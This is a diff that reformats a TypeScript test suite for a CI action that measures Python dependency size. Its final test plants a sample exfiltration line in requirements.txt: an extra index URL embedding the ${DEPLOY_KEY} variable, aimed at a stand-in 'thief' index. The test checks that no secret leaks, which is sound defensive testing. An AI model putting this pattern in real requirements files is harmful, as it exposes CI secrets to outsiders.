@@ -13,7 +13,8 @@ const files = [
 /** A project that uses an index of the test, with further settings. */
 async function project(requirements: string, settings = '') {
   const { index } = await indexOf(files)
-  const pyproject = (more: string): string => `[tool.pysize]\npython = "3.11"\ncompile = false\nindex-url = "${index}"\n${more}`
+  const pyproject = (more: string): string =>
+    `[tool.pysize]\npython = "3.11"\ncompile = false\nindex-url = "${index}"\n${more}`
   return { 'requirements.txt': requirements, 'pyproject.toml': pyproject(settings), pyproject }
 }
 
@@ -28,7 +29,9 @@ describe('the comment', () => {
     const first = await run()
     expect(first).toMatchObject({ code: 0, outputs: { result: 'passed', comment: 'created' } })
     expect(Number(first.outputs.growth)).toBeGreaterThan(39_000_000)
-    expect(github.comments.map(({ body }) => body)).toEqual([expect.stringMatching(/^<!-- pysize default -->\n### pysize\n[\s\S]*torch/)])
+    expect(github.comments.map(({ body }) => body)).toEqual([
+      expect.stringMatching(/^<!-- pysize default -->\n### pysize\n[\s\S]*torch/),
+    ])
     expect(first.summary).toContain('nvidia-cublas')
 
     push({ 'requirements.txt': 'web\ntorch\ntiny\n' })
@@ -56,7 +59,11 @@ describe('the comment', () => {
       { login: 'github-actions[bot]', type: 'Bot' },
       { login: 'stranger', type: 'User' },
     ]
-    const others = Array.from({ length: 150 }, (_, id) => ({ id, body: 'Looks good', user: person }))
+    const others = Array.from({ length: 150 }, (_, id) => ({
+      id,
+      body: 'Looks good',
+      user: person,
+    }))
     github.comments.push(
       ...others,
       { id: 200, body: `${marker}All fine`, user: person },
@@ -83,7 +90,10 @@ describe('the comment', () => {
 
   test('for a fork is written by a second workflow', async () => {
     const { github, run } = await job('web\n', 'web\ntorch\n')
-    expect(await run({ event: 'workflow_run' })).toMatchObject({ code: 0, outputs: { comment: 'created' } })
+    expect(await run({ event: 'workflow_run' })).toMatchObject({
+      code: 0,
+      outputs: { comment: 'created' },
+    })
     expect(github.requests[0]).toBe('GET /pulls?state=open&head=stranger%3Atopic')
     expect(github.comments[0]?.body).toContain('torch')
   })
@@ -101,10 +111,15 @@ describe('the job', () => {
 
   test('holds a pull request to the budget of its base', async () => {
     const { pyproject, ...base } = await project('web\n', 'budget = "20MB"\n')
-    const { run } = await pullRequestJob(base, { 'requirements.txt': 'web\ntorch\n', 'pyproject.toml': pyproject('budget = "1GB"\n') })
+    const { run } = await pullRequestJob(base, {
+      'requirements.txt': 'web\ntorch\n',
+      'pyproject.toml': pyproject('budget = "1GB"\n'),
+    })
     const { code, commands } = await run()
     expect(code).toBe(1)
-    expect(commands).toMatch(/requirements\.txt: 45\.\d MB, 25\.\d MB over the budget of 20\.0 MB\./)
+    expect(commands).toMatch(
+      /requirements\.txt: 45\.\d MB, 25\.\d MB over the budget of 20\.0 MB\./,
+    )
   })
 
   test('fails for a denied package, with the way to it', async () => {
@@ -143,7 +158,9 @@ describe('the job', () => {
     const broken = await job('web\n', 'web\nno-such-project\n')
     const { code, commands } = await broken.run()
     expect(code).toBe(1)
-    expect(commands).toMatch(/^::error file=requirements\.txt,line=2,title=pysize::In [0-9a-f]{12}: .*no-such-project/)
+    expect(commands).toMatch(
+      /^::error file=requirements\.txt,line=2,title=pysize::In [0-9a-f]{12}: .*no-such-project/,
+    )
     const repaired = await job('web\nno-such-project\n', 'web\n')
     expect(await repaired.run()).toMatchObject({ code: 0 })
   })
@@ -152,7 +169,10 @@ describe('the job', () => {
 describe('an index that cannot be used', () => {
   const offline = () =>
     pullRequestJob(
-      { 'requirements.txt': 'web\n', 'pyproject.toml': '[tool.pysize]\nindex-url = "http://127.0.0.1:9/simple/"\n' },
+      {
+        'requirements.txt': 'web\n',
+        'pyproject.toml': '[tool.pysize]\nindex-url = "http://127.0.0.1:9/simple/"\n',
+      },
       { 'requirements.txt': 'web\ntorch\n' },
     )
 
@@ -166,7 +186,10 @@ describe('an index that cannot be used', () => {
 
   test('fails the job where the workflow wants that', async () => {
     const { run } = await offline()
-    expect(await run({ inputs: { 'on-index-error': 'fail' } })).toMatchObject({ code: 1, outputs: { result: 'failed' } })
+    expect(await run({ inputs: { 'on-index-error': 'fail' } })).toMatchObject({
+      code: 1,
+      outputs: { result: 'failed' },
+    })
   })
 })
 
@@ -174,9 +197,17 @@ test("a stranger's files see no variable of the job", async () => {
   const { index } = await indexOf(files)
   const seen: string[] = []
   const thief = await indexOf([], { intercept: ({ path }) => void seen.push(path) })
-  const change = { 'requirements.txt': `--extra-index-url ${thief.url}/\${DEPLOY_KEY}\${NO_PROXY}\nweb\ntorch\n` }
-  const { run } = await pullRequestJob({ 'requirements.txt': `--index-url ${index}\nweb\n` }, change)
-  await run({ event: 'workflow_run', env: { DEPLOY_KEY: 'canary', ALL_PROXY: '', NO_PROXY: 'canary,127.0.0.1' } })
+  const change = {
+    'requirements.txt': `--extra-index-url ${thief.url}/\${DEPLOY_KEY}\${NO_PROXY}\nweb\ntorch\n`,
+  }
+  const { run } = await pullRequestJob(
+    { 'requirements.txt': `--index-url ${index}\nweb\n` },
+    change,
+  )
+  await run({
+    event: 'workflow_run',
+    env: { DEPLOY_KEY: 'canary', ALL_PROXY: '', NO_PROXY: 'canary,127.0.0.1' },
+  })
   expect(seen.join()).not.toContain('canary')
   expect(seen.length).toBeGreaterThan(0)
 })
